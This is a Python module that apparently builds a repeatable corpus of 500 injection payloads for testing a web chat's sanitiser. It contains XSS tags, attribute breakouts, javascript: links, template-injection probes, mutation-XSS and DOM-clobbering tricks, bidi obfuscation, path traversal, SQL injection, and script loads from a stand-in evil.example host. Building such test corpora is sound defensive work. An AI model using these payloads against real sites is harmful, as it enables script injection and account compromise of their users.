"""Words that would do harm where they were taken for anything but words: 500 of them, always the
same."""

from collections.abc import Callable, Iterator
from html import escape
from itertools import cycle, islice, product
from typing import Final
from urllib.parse import quote

RUN: Final = "window.__pwned=1"

TAGS: Final = (
    "<img src=x onerror={run}>",
    "<svg onload={run}>",
    "<video src=x onerror={run}></video>",
    "<body onpageshow={run}>",
    "<details open ontoggle={run}>x</details>",
    "<input autofocus onfocus={run}>",
    "<textarea autofocus onfocus={run}></textarea>",
    '<iframe src="javascript:parent.__pwned=1"></iframe>',
    '<iframe srcdoc="<script>parent.__pwned=1</script>"></iframe>',
    '<object data="javascript:{run}"></object>',
    '<embed src="javascript:{run}">',
    "<script>{run}</script>",
    "<script src=//evil.example/x.js></script>",
    "<marquee onstart={run}>x</marquee>",
    "<style>@keyframes x{{}}b{{animation:x}}</style><b onanimationstart={run}>x</b>",
    "<link rel=stylesheet href=//evil.example/x.css>",
    '<meta http-equiv=refresh content="0;url=javascript:{run}">',
    "<base href=//evil.example/>",
    "<form action=javascript:{run}><button>x</button></form>",
    "<a href=javascript:{run} autofocus>press me</a>",
    "<button popovertarget=x>x</button><p popover id=x onbeforetoggle={run}>",
    "<template shadowrootmode=open><img src=x onerror={run}></template>",
    "<p contenteditable autofocus onfocus={run}>x</p>",
    "<dialog open onclose={run}>x</dialog>",
    "<xss onpointerrawupdate={run} style=position:fixed;inset:0>x</xss>",
)
BREAKOUTS: Final = (
    "\"><script>{run}</script>",
    "'><img src=x onerror={run}>",
    "\" autofocus onfocus={run} x=\"",
    "' autofocus onfocus={run} x='",
    "--><script>{run}</script><!--",
    "]]><script>{run}</script>",
    "</textarea><script>{run}</script>",
    "</title><script>{run}</script>",
    "</bdi></h3></li></ol><img src=x onerror={run}>",
    "</template><img src=x onerror={run}>",
    "</noscript><img src=x onerror={run}>",
    "</p></blockquote><svg onload={run}>",
    "</script><script>{run}</script>",
    "</style><svg onload={run}>",
    "</option></select><img src=x onerror={run}>",
    "`-{run}-`",
    "\\\"-{run}//",
    "';{run};//",
    "*/{run}/*",
    "\"}}],\"html\":\"<img src=x onerror={run}>\",\"kind\":\"question.approved",
    "{{\"kind\":\"snapshot\",\"seq\":999999,\"html\":\"<svg onload={run}>\"}}",
    "x\" data-gone=\"\" data-place=\"room",
    "\"] , * , [x=\"",
    "\\22 \\5d ,*",
)  # fmt: skip
LINKS: Final = (
    "javascript:{run}",
    "JaVaScRiPt:{run}",
    "java\tscript:{run}",
    "java\nscript:{run}",
    "\x01javascript:{run}",
    "javascript://example.org/%0a{run}",
    "data:text/html,<script>opener.__pwned=1</script>",
    "data:text/html;base64,PHNjcmlwdD5wYXJlbnQuX19wd25lZD0xPC9zY3JpcHQ+",
    "vbscript:msgbox(1)",
    "&#106;avascript:{run}",
    "//evil.example/x",
    "[press me](javascript:{run})",
    "<javascript:{run}>",
    "view-source:javascript:{run}",
)
TEMPLATES: Final = (
    "{{{{7*7}}}}",
    "{{% raw %}}{{{{7*7}}}}{{% endraw %}}",
    "{{{{ self.__init__.__globals__ }}}}",
    "{{{{ ''.__class__.__mro__ }}}}",
    "{{# {run} #}}",
    "${{{run}}}",
    "#{{{run}}}",
    "<%= 7*7 %>",
    "{{name}} {{text}} {{count}} {{number}} {{detail}} {{fate}}",
    "{{__proto__}} {{constructor}}",
    "%(name)s %(num)s %s %d %",
    "{{0}} {{}}",
    "$& $1 $` $'",
    "\\u003cscript\\u003e{run}",
    "[[${{7*7}}]]",
    "@{{7*7}}",
    "<?php {run} ?>",
    '<!--#exec cmd="id"-->',
    '=HYPERLINK("//evil.example")',
    "{{{{constructor.constructor('{run}')()}}}}",
    "ng-init=constructor.constructor('{run}')()",
)
FOREIGN: Final = (
    "<svg><script>{run}</script></svg>",
    "<svg><animate onbegin={run} attributeName=x></svg>",
    '<svg><a xlink:href="javascript:{run}"><text y=9>x</text></a></svg>',
    "<svg><foreignObject><img src=x onerror={run}></foreignObject></svg>",
    '<svg><use href="data:image/svg+xml,<svg id=x onload={run}>#x"></svg>',
    "<svg><style><img src=x onerror={run}></style></svg>",
    "<math><mtext><table><mglyph><style><img src=x onerror={run}></style></mglyph></table></mtext></math>",
    '<math href="javascript:{run}">x</math>',
    "<math><annotation-xml encoding=text/html><img src=x onerror={run}></annotation-xml></math>",
    '<svg></p><style><a id="</style><img src=x onerror={run}>">',
    "<form><math><mtext></form><form><mglyph><style></math><img src=x onerror={run}>",
    '<noscript><p title="</noscript><img src=x onerror={run}>">',
    "<svg><set attributeName=onmouseover to={run}></svg>",
)
ENTITIES: Final = (
    "&lt;script&gt;{run}&lt;/script&gt;",
    "&amp;lt;b&amp;gt;",
    "&#x3c;script&#x3e;{run}&#x3c;/script&#x3e;",
    "&#60script>{run}&#60/script>",
    "&lt &gt &amp &quot",
    "&#0;&#x0;&#xD800;&#x110000;",
    "&notanentity; &copy",
    "&#38;lt;img src=x onerror={run}&#38;gt;",
    "&NewLine;&Tab;&colon;",
    "&lpar;&rpar;&apos;&grave;",
    "& && &;",
    "&#x26;#x3c;svg onload={run}>",
    "AT&T &c; R&D &ampamp;",
)
TRUSTED: Final = (
    "<script>trustedTypes.createPolicy('default',{{createHTML:s=>s}})</script>",
    "<script>trustedTypes.createPolicy('webchat',{{createHTML:s=>s}})</script>",
    '<iframe srcdoc="&lt;script&gt;parent.__pwned=1&lt;/script&gt;"></iframe>',
    "<meta http-equiv=Content-Security-Policy content=\"script-src 'unsafe-inline'\"><script>{run}</script>",
    '<script src="/chats.atom"></script>',
    "<script type=module>import '/static/web/pieces.js'</script>",
    '<script type=importmap>{{"imports":{{"../web/pieces.js":"//evil.example/x.js"}}}}</script>',
    "<link rel=modulepreload href=//evil.example/x.js>",
    "<link rel=prefetch href=//evil.example/x>",
    "<form id=desk><input name=dataset><input name=querySelector></form>",
    "<a id=room></a><a id=room name=dataset href=//evil.example></a>",
    "<img name=body><img id=documentElement><form name=cookie></form>",
    "<li id=item data-place=queue data-item=x data-gone hidden>gone</li>",
    "<p id=announcer role=status>heard</p><p id=connection>lost</p>",
    "<ol data-list=room><li id=q-1 data-place=room>x</li></ol>",
    "<input name=version value=x><input name=key value=x>",
    "<object name=trustedTypes></object><object name=webchat></object>",
)
# The arrows and marks that turn the reading around, hide it, or pile it up.
BIDI: Final = (
    "\u202egnp.exe\u202c {run}",
    "\u2066\u2067abc\u2069\u2069 def",
    "user\u200fadmin\u200e",
    "\u061cשלום, wer ist \u202dhier\u202c?",
    "مرحبا <img src=x onerror={run}>",
    "abc\u2028def\u2029ghi",
    "\ufeff\u200b\u200c\u200d\u2060hidden",
    "a\u00adb\u034fc\u180ed",
    "\U000e0041\U000e0042tags\U000e007f",
    "\u202e<tpircs/>1=denwp__.wodniw<tpircs>",
    "עברית and English (mixed) 123",
    "\u2067شرطة\u2069 999",
)
ZALGO: Final = (
    "Z\u0300\u0301\u0302\u0303\u0304\u0305\u0306\u0307a\u0323\u0324\u0325\u0326\u0327l\u0334\u0335\u0336\u0337\u0338go",
    "e" + "\u0301" * 60,
    "\u0301\u0302 starts with marks",
    "ก็็็็็็็็็็็็็็็็็็็็ Thai tower",
    "ﷺ ﷽ wide ones",
    "👩‍👩‍👧‍👦 family 🏴󠁧󠁢󠁥󠁮󠁧󠁿 flag 👍🏿",
    "🤷‍♀️" * 9,
    "𝕊𝕔𝕣𝕚𝕡𝕥 𝖋𝖔𝖓𝖙",
    "ＦＵＬＬ　ＷＩＤＴＨ",
    "①②③ ½ ﬁ ℡ ㏂",
    "＜script＞{run}＜/script＞",
    "﹤img src=x onerror={run}﹥",
    "‹script›{run}‹/script›",
    "ʺ＞＜svg onload={run}＞",
    "\x00<scr\x00ipt>{run}</scr\x00ipt>",
    "a\x08\x08\x1b[31mred\x07",
    "\ue000\uf8ff private",
    "\ufffe\ufdd0 no characters",
)
ODD: Final = (
    "W" * 500,
    "word " * 99,
    "\n\n\n\nlines\n\n\n\nof\nlines\n\n",
    "  leading and trailing  ",
    "tab\tand\vand\f",
    "a\r\nb\rc",
    "../../../etc/passwd",
    "%3Cscript%3E{run}%3C/script%3E",
    "' OR '1'='1' --",
    "null undefined NaN [object Object]",
    "-0 1e999 0x10 ٣",
    "\\",
    '"',
    "'",
    "<",
    "&",
    "/* */ // #",
    "__proto__",
    "constructor",
    "<3 and 1 < 2 > 0",
)
FAMILIES: Final = (
    TAGS,
    BREAKOUTS,
    LINKS,
    TEMPLATES,
    FOREIGN,
    ENTITIES,
    TRUSTED,
    BIDI,
    ZALGO,
    ODD,
)
DISGUISES: Final[tuple[Callable[[str], str], ...]] = (
    str,
    str.upper,
    lambda text: "".join(one.upper() if at % 2 else one for at, one in enumerate(text)),
    lambda text: text.replace("<", "<\n", 1).replace(" ", "\t"),
    lambda text: text.replace(" ", "/"),
    lambda text: text.replace("<", "<\u200b").replace("=", "\u2060="),
    lambda text: text.replace("<", "\uff1c").replace(">", "\uff1e").replace("=", "\uff1d"),
    lambda text: f"Is it true? {text} Please answer.",
    escape,
    quote,
    lambda text: f"<!--{text}-->{text}",
    lambda text: f"{text}{text}",
)


def generate() -> Iterator[str]:
    """Every payload of every family, first as it is, then in each disguise."""
    for disguise, family in product(DISGUISES, zip_longest_cycled()):
        yield from (disguise(raw.format(run=RUN)) for raw in family)


def zip_longest_cycled() -> list[tuple[str, ...]]:
    """One of each family at a time, so that any stretch of them holds every family."""
    longest = max(map(len, FAMILIES))
    return list(zip(*(islice(cycle(family), longest) for family in FAMILIES), strict=True))


def payloads(count: int) -> list[str]:
    """The first so many, none of them twice."""
    return list(islice(dict.fromkeys(generate()), count))
